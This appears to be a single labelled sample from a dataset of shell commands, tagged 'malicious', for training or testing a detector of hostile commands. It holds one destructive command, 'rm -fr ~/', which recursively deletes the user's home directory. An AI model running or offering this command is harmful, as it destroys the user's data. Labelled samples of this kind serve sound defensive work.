# label: malicious
cd /tmp
rm -fr ~/
